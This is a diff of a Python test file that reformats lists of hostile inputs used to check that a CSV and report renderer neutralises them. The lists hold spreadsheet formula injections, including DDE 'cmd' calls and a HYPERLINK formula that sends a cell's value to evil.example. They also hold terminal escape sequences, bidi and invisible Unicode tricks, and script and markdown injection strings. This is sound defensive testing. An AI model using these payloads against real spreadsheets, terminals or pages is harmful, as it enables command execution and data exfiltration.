@@ -24,28 +24,85 @@ from tests.reports.rendering import of_rows
 from tests.samples import AS_OF
 
 FORMULAS = [
-    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1", "\r=1+1", "=1+1\r\nx", "  =1+1", "＝1+1", "＋1", "－1", "＠A1", "'=1+1", "''@A1", "=IMPORTXML(CONCAT(\"//evil.example\"),\"//a\")",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+1\r\nx",
+    "  =1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠A1",
+    "'=1+1",
+    "''@A1",
+    '=IMPORTXML(CONCAT("//evil.example"),"//a")',
 ]
 HIDDEN_FORMULAS = ["a@b.example;=1+1", "x;@y.example", "x\t+1", "x\n=1+1", "x; -1"]
 ESCAPES = [
-    "\x1b]0;owned\x07", "\x1b[2J\x1b[1;1H", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x9b31m", "\x90q\x9c", "\x9d52;c;ZXZpbA==\x9c",
-    "\x1bP$q\x1b\\", "\x08\x08\x08safe", "\rsafe", "a\x00b", "\x7f", "\x1b[6n", "\x0e\x0f", "line\u2028break\u2029", "\x85",
+    "\x1b]0;owned\x07",
+    "\x1b[2J\x1b[1;1H",
+    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
+    "\x9b31m",
+    "\x90q\x9c",
+    "\x9d52;c;ZXZpbA==\x9c",
+    "\x1bP$q\x1b\\",
+    "\x08\x08\x08safe",
+    "\rsafe",
+    "a\x00b",
+    "\x7f",
+    "\x1b[6n",
+    "\x0e\x0f",
+    "line\u2028break\u2029",
+    "\x85",
 ]
 INVISIBLE = [
-    "invoice\u202egpj.exe", "\u2066a\u2069", "\u200eb\u200f", "\u061c", "a\u200bb", "a\u200db", "\ufeffa", "a\u00adb", "a\U000e0041b", "a\u034fb",
-    "a\u3164b", "a\u115fb", "a\ufe0fb", "a\u2800b", "a\U000e0101b", "a\ud800b", "a\u2062b",
+    "invoice\u202egpj.exe",
+    "\u2066a\u2069",
+    "\u200eb\u200f",
+    "\u061c",
+    "a\u200bb",
+    "a\u200db",
+    "\ufeffa",
+    "a\u00adb",
+    "a\U000e0041b",
+    "a\u034fb",
+    "a\u3164b",
+    "a\u115fb",
+    "a\ufe0fb",
+    "a\u2800b",
+    "a\U000e0101b",
+    "a\ud800b",
+    "a\u2062b",
 ]
 MARKUP = [
-    "<script>alert(1)</script>", "![x](http://evil.example/p.png)", "[x](javascript:alert(1))", "a|b|c", "`code`", "**bold**", "&lt;b&gt;",
-    "<img src=x onerror=alert(1)>", "http://evil.example/a", "www.evil.example", "$x$", "~~gone~~", "a\\|b", "[bold red]not rich[/]", "_a_",
+    "<script>alert(1)</script>",
+    "![x](http://evil.example/p.png)",
+    "[x](javascript:alert(1))",
+    "a|b|c",
+    "`code`",
+    "**bold**",
+    "&lt;b&gt;",
+    "<img src=x onerror=alert(1)>",
+    "http://evil.example/a",
+    "www.evil.example",
+    "$x$",
+    "~~gone~~",
+    "a\\|b",
+    "[bold red]not rich[/]",
+    "_a_",
 ]
 ALL = FORMULAS + HIDDEN_FORMULAS + ESCAPES + INVISIBLE + MARKUP
 STARTS = tuple("=+-@\t\r＝＋－＠")
 
 
 def hostile(*texts: str) -> Document:
-    return of_rows(["sender", "reply", "lines"], ["VARCHAR", "VARCHAR", "BIGINT"], *((text, text, -5) for text in texts))
+    return of_rows(
+        ["sender", "reply", "lines"], ["VARCHAR", "VARCHAR", "BIGINT"], *((text, text, -5) for text in texts)
+    )
 
 
 def style(raw: bool = False) -> Style:
@@ -63,9 +120,13 @@ def test_a_csv_cell_cannot_become_a_formula_and_numbers_stay_numbers() -> None:
 @pytest.mark.parametrize("text", HIDDEN_FORMULAS + FORMULAS)
 @pytest.mark.parametrize("separator", [";", "\t", ","])
 def test_nor_where_another_separator_parts_the_cells(text: str, separator: str) -> None:
-    content = to_csv(of_rows(["sender"], ["VARCHAR"], ("x", ), (text, )).sheets[0].result)
+    content = to_csv(of_rows(["sender"], ["VARCHAR"], ("x",), (text,)).sheets[0].result)
     # quotes mean nothing to it: the file was not quoted for this separator
-    cells = re.split(rf"[{separator}\r\n]", content) if separator != "," else next(iter(csv.reader([content.split(chr(10), 2)[2]])), [""])
+    cells = (
+        re.split(rf"[{separator}\r\n]", content)
+        if separator != ","
+        else next(iter(csv.reader([content.split(chr(10), 2)[2]])), [""])
+    )
     assert not any(cell.strip(' "').startswith(STARTS) for cell in cells)
 
 
@@ -79,7 +140,9 @@ def test_disarming_is_reversible_and_leaves_no_formula(text: str) -> None:
 
 
 def test_raw_leaves_csv_as_it_is() -> None:
-    rows = list(csv.reader(io.StringIO(to_csv(hostile(*FORMULAS).sheets[0].result, raw=True), newline="")))[1:]
+    rows = list(csv.reader(io.StringIO(to_csv(hostile(*FORMULAS).sheets[0].result, raw=True), newline="")))[
+        1:
+    ]
     assert [row[0] for row in rows] == FORMULAS
 
 
